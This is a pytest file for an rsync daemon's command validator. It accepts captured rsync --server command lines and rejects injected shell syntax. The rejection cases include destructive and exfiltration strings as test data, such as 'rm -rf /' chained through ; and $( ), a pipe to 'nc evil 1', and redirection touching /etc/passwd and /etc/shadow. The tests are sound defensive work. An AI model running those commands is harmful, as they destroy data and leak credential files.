"""Exec-command vetting: what rsync clients send passes, shell syntax never does."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rsyncd_py.transports.command import (
    CommandRejected,
    parse_exec_command,
    split_shell_words,
)

# Captured from rsync 3.2.7 through a remote-shell shim (see command.py's docstring).
CAPTURED = [
    ("rsync --server -logDtpre.iLsfxCIvu . /dst", ["-logDtpre.iLsfxCIvu", ".", "/dst"]),
    (
        "rsync --server --sender -logDtpre.iLsfxCIvu . a\\ b",
        ["--sender", "-logDtpre.iLsfxCIvu", ".", "a b"],
    ),
    ("rsync --server -logDtpre.iLsfxCIvu . x\\;y", ["-logDtpre.iLsfxCIvu", ".", "x;y"]),
    ("rsync --server -logDtpre.iLsfxCIvu . \\$HOME/q", ["-logDtpre.iLsfxCIvu", ".", "$HOME/q"]),
    ("rsync --server -logDtpre.iLsfxCIvu . it\\'s", ["-logDtpre.iLsfxCIvu", ".", "it's"]),
    ("rsync --server -logDtpre.iLsfxCIvu . a\\{b,c\\}", ["-logDtpre.iLsfxCIvu", ".", "a{b,c}"]),
    ("rsync --server -logDtpre.iLsfxCIvu . \\#x", ["-logDtpre.iLsfxCIvu", ".", "#x"]),
    ("rsync --server -logDtpre.iLsfxCIvu . x\\#y", ["-logDtpre.iLsfxCIvu", ".", "x#y"]),
    (
        "rsync --server --sender -logDtpre.iLsfxCIvu . \\~",
        ["--sender", "-logDtpre.iLsfxCIvu", ".", "~"],
    ),
    (
        "rsync --server --sender -logDtpre.iLsfxCIvu . *.txt",
        ["--sender", "-logDtpre.iLsfxCIvu", ".", "*.txt"],
    ),
    ("rsync --server -logDtpr . ./-dash", ["-logDtpr", ".", "./-dash"]),
    ("rsync --server --daemon .", ["--daemon", "."]),
]


@pytest.mark.parametrize(("command", "args"), CAPTURED)
def test_rsync_client_commands_are_accepted(command: str, args: list[str]) -> None:
    parsed = parse_exec_command(command)
    assert parsed.program == "rsync"
    assert parsed.argv == ("--server", *args)


def test_sender_and_daemon_flags() -> None:
    assert parse_exec_command("rsync --server --sender -r . x").is_sender
    assert not parse_exec_command("rsync --server -r . x").is_sender
    assert parse_exec_command("rsync --server --daemon .").is_daemon


@pytest.mark.parametrize(
    "program",
    ["rsync", "/usr/bin/rsync", "/opt/rsync-3.4/bin/rsync", "rsyncd-py", "/venv/bin/rsyncd-py"],
)
def test_program_may_be_a_path_ending_in_rsync(program: str) -> None:
    assert parse_exec_command(f"{program} --server -r . x").program == program


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("ls", "not rsync"),
        ("ls -la /", "not rsync"),
        ("sh -c 'rsync --server . x'", "not rsync"),
        ("rsync", "no --server"),
        ("rsync -av /etc /tmp", "no --server"),
        ("rsyncd-py --store s3://other/bucket --server -r . x", "no --server"),
        ("rsync --server -r . x; rm -rf /", "shell syntax"),
        ("rsync --server -r . x && rm -rf /", "shell syntax"),
        ("rsync --server -r . x | nc evil 1", "shell syntax"),
        ("rsync --server -r . x > /etc/passwd", "shell syntax"),
        ("rsync --server -r . x < /etc/shadow", "shell syntax"),
        ("rsync --server -r . $(rm -rf /)", "shell syntax"),
        ("rsync --server -r . `rm -rf /`", "shell syntax"),
        ("rsync --server -r . $HOME", "shell syntax"),
        ('rsync --server -r . "$(id)"', "expansion"),
        ('rsync --server -r . "`id`"', "expansion"),
        ("rsync --server -r . x\nrm -rf /", "shell syntax"),
        ("rsync --server -r . (x)", "shell syntax"),
        ("rsync --server -r . x & sleep 1", "shell syntax"),
        ("rsync --server -r . #comment", "comment"),
        ("rsync --server -r . 'unterminated", "unterminated single"),
        ('rsync --server -r . "unterminated', "unterminated double"),
        ("rsync --server -r . x\\", "backslash"),
    ],
)
def test_refused(command: str, reason: str) -> None:
    with pytest.raises(CommandRejected) as info:
        parse_exec_command(command)
    assert reason in info.value.reason


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("a  b\tc", ["a", "b", "c"]),
        ("'a b' \"c d\"", ["a b", "c d"]),
        ("a'b'\"c\"d", ["abcd"]),
        ("'' x", ["", "x"]),
        ('"a\\"b\\\\c\\d"', ['a"b\\c\\d']),
        ("'$HOME;|&'", ["$HOME;|&"]),
        ('"; | & < > ( )"', ["; | & < > ( )"]),
        ("a\\\nb", ["ab"]),
        ("~", ["/"]),
        ("~/backup/x", ["/backup/x"]),
        ("'~/x' \\~/y a~b ~user/z", ["~/x", "~/y", "a~b", "~user/z"]),
        ("x#y", ["x#y"]),
        ("*.txt [ab]?", ["*.txt", "[ab]?"]),
        ("caf\u00e9 \u65e5\u672c", ["caf\u00e9", "\u65e5\u672c"]),
    ],
)
def test_split_like_a_posix_shell(command: str, words: list[str]) -> None:
    assert split_shell_words(command) == words


# Outside the characters a shell acts on (and ~, which we expand), our splitter and
# Python's POSIX shlex must agree word for word, including on what is malformed.
_PLAIN = st.text(alphabet="ab -_./*?[]{}=:,'\"\\\t\u00e9", max_size=40)


@given(_PLAIN)
def test_agrees_with_shlex(command: str) -> None:
    try:
        expected = shlex.split(command)
    except ValueError:
        with pytest.raises(CommandRejected):
            split_shell_words(command)
    else:
        assert split_shell_words(command) == expected
